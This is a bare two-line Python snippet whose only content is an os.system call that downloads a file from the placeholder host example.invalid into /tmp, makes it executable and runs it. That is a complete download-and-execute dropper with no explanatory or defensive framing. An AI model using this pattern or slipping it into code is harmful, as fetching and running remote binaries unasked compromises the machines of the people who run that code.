import os
os.system("wget http://example.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x")
